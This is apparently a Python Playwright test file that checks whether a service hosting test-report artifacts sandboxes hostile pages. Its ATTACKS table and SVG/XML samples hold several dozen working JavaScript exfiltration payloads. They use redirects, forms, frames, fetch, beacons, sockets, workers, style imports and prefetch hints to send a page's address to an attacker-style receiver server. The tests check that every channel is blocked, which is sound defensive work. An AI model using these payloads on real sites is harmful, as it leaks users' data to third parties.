"""Reports that try to send their address and their files away, by every way that leads out of a page."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Pages
from tests.browser.test_artifacts import CONFIG
from tests.integration.client import Client
from tests.server_process import ServerProcess

# by name; ``to`` is an address of the receiver with what was stolen
ATTACKS = {
    "location": "location = to",
    "replace": "location.replace(to)",
    "refresh": "add(`<meta http-equiv=refresh content='0;url=${to}'>`)",
    "window": "open(to)",
    "same window": "open(to, '_self')",
    "top window": "open(to, '_top')",
    "top": "top.location = to",
    "parent": "parent.location = to",
    "link": "click(`<a href='${to}'>x</a>`)",
    "link to a new window": "click(`<a target=_blank href='${to}'>x</a>`)",
    "link to the top": "click(`<a target=_top href='${to}'>x</a>`)",
    "link to save": "click(`<a download href='${to}'>x</a>`)",
    "ping": "click(`<a href='#x' ping='${to}'>x</a>`)",
    "form": "add(`<form action='${to}'><input name=x></form>`); document.forms[0].submit()",
    "form, post": "add(`<form method=post action='${to}'></form>`); document.forms[0].submit()",
    "form in a new window": "add(`<form target=_blank action='${to}'></form>`); document.forms[0].submit()",
    "form at the top": "add(`<form target=_top action='${to}'></form>`); document.forms[0].submit()",
    "frame": "add(`<iframe src='${to}'></iframe>`)",
    "frame that leaves": "frame(`location = '${to}'`)",
    "frame that leads its parent away": "frame(`parent.location = '${to}'`)",
    "frame that leads the top away": "frame(`top.location = '${to}'`)",
    "blob": "location = URL.createObjectURL(new Blob([script(`location = '${to}'`)], {type: 'text/html'}))",
    "data": "location = `data:text/html,${script(`location = '${to}'`)}`",
    "script address": "location = `javascript:location='${to}'`",
    "image": "new Image().src = to",
    "fetch": "fetch(to, {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon(to, 'x')",
    "socket": "new WebSocket(to.replace('http', 'ws'))",
    "events": "new EventSource(to)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${to}', {mode: 'no-cors'})`])))",
    "style": "add(`<style>@import '${to}'</style>`)",
    "prefetch": "add(`<link rel=prefetch href='${to}'><link rel=prerender href='${to}'>`)",
    "preload": "add(`<link rel=preload as=image href='${to}'><link rel=modulepreload href='${to}'>`)",
    "speculation": """add(""); document.head.append(Object.assign(document.createElement("script"), {
        type: "speculationrules", textContent: JSON.stringify({prefetch: [{source: "list", urls: [to],
        eagerness: "immediate"}], prerender: [{source: "list", urls: [to]}]})}))""",
    "message": "top.postMessage(to, '*')",
}  # fmt: skip
REPORT = """<!doctype html><meta charset="utf-8"><body>hostile<script>
const to = "RECEIVER/?" + encodeURIComponent(location.href);
const script = (text) => `<script>${text}</` + "script>";
const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
const click = (html) => { add(html); document.querySelector("a:last-of-type").click(); };
const frame = (text) => document.body.append(
  Object.assign(document.createElement("iframe"), {srcdoc: script(text)}));
const attacks = {ALL};
try { attacks[decodeURIComponent(location.hash.slice(1))]?.(); } catch (error) { document.title = error.message; }
</script>"""
MALICIOUS_FILES = {
    "picture.svg": '<svg xmlns="http://www.w3.org/2000/svg"><script>location = "RECEIVER/svg"</script></svg>',
    "data.xml": '<x><script xmlns="http://www.w3.org/1999/xhtml">location = "RECEIVER/xml"</script></x>',
}


class Receiver:
    """A server of the attacker's on another port, and what it got."""

    def __init__(self) -> None:
        receiver = self
        self.got: list[str] = []
        self.page = ""

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                content = receiver.page.encode() if self.path == "/page.html" else b""
                if self.path not in ("/page.html", "/favicon.ico"):
                    receiver.got.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            do_POST = do_HEAD = do_GET  # noqa: N815 (names of the base class)

            def log_message(self, *_: object) -> None:
                """Suppress the access log."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    receiver = Receiver()
    thread = threading.Thread(target=receiver.server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield receiver
    receiver.server.shutdown()
    receiver.server.server_close()
    thread.join()


def hostile_report(receiver: Receiver) -> str:
    attacks = ", ".join(f'"{name}": () => {{ {act} }}' for name, act in ATTACKS.items())
    return REPORT.replace("{ALL}", f"{{{attacks}}}").replace("RECEIVER", receiver.url)


@pytest.fixture
def address(
    server_factory: Callable[..., ServerProcess],
    client_of: Callable[[ServerProcess], Client],
    agent: Callable[..., None],
    receiver: Receiver,
    tmp_path: Path,
) -> str:
    """Return the address of the files of an attempt: hostile ones, and a report with links."""
    folder = tmp_path / "host" / "results"
    folder.mkdir(parents=True)
    files = {"index.html": hostile_report(receiver), **MALICIOUS_FILES, "other.html": "<h1>Other page</h1>"}
    files["links.html"] = """<!doctype html><a href="other.html" target="_blank">inside</a>
        <a href="RECEIVER/outside?x=1&y=<b>">outside</a>"""
    for name, content in files.items():
        (folder / name).write_text(content.replace("RECEIVER", receiver.url))
    (folder.parent / "qgagent.toml").write_text(CONFIG)
    server = server_factory()
    agent(server, "runner", "--config", str(folder.parent / "qgagent.toml"))
    client = client_of(server)
    job = client.submit(test="results", target="web")
    client.until(job, "done")
    attempt = client.get(f"/api/v1/jobs/{job}").body["tries"][0]["id"]
    url: str = client.get(f"/api/v1/attempts/{attempt}/artifacts").body["content"]["url"]
    return f"{url}results/"


def settle(page: Page) -> None:
    """Wait until nothing has been requested for half a second."""
    page.wait_for_load_state("networkidle")


def test_a_report_sends_nothing_away(address: str, receiver: Receiver, open_page: Pages) -> None:
    """Neither by scripts, links, forms, frames nor hints. Elsewhere the same page succeeds: the attacks do work."""
    open_page.expected = ":"  # browsers complain of each refusal
    receiver.page = hostile_report(receiver)
    page = open_page()
    for name in ("location", "refresh", "link", "top window", "speculation"):
        page.goto(f"{receiver.url}/page.html#{name}", wait_until="commit")
        settle(page)
        assert receiver.got, name
        receiver.got.clear()
        page.goto("about:blank")
    for name in ATTACKS:
        page = open_page()
        page.goto(f"{address}index.html#{name}", wait_until="commit")
        settle(page)
        assert receiver.got == [], name
        assert page.url.startswith(address), name
        assert len(page.context.pages) == 1, name
        page.context.close()


@pytest.mark.parametrize("name", MALICIOUS_FILES)
def test_other_files_with_scripts_send_nothing_away(
    address: str, receiver: Receiver, open_page: Pages, name: str
) -> None:
    """Pictures and documents in XML."""
    open_page.expected = ":"
    page = open_page()
    page.goto(f"{address}{name}", wait_until="commit")
    settle(page)
    assert receiver.got == []
    assert page.url == f"{address}{name}"


def test_links_of_a_report(address: str, receiver: Receiver, open_page: Pages) -> None:
    """Links within the attempt work; one that leads out is shown with its address, and opened by a person only."""
    page = open_page()
    page.goto(f"{address}links.html")
    report = page.frame_locator("iframe")
    report.get_by_role("link", name="outside").click()
    shown = page.get_by_role("link")
    expect(shown).to_have_text(f"{receiver.url}/outside?x=1&y=%3Cb%3E")
    assert receiver.got == []
    with page.expect_popup() as popup:
        shown.click()
    popup.value.wait_for_load_state()
    assert popup.value.evaluate("[opener, document.referrer]") == [None, ""]
    assert receiver.got == ["/outside?x=1&y=%3Cb%3E"]
    page.get_by_role("button", name="Close").click()
    expect(shown).to_be_hidden()
    report.get_by_role("link", name="inside").click()
    expect(report.get_by_role("heading", name="Other page")).to_be_visible()
    again = page.context.new_page()  # of what the browser has cached as the content of a frame
    again.goto(f"{address}other.html")
    expect(again.frame_locator("iframe").get_by_role("heading", name="Other page")).to_be_visible()
    assert len(page.context.pages) == 3
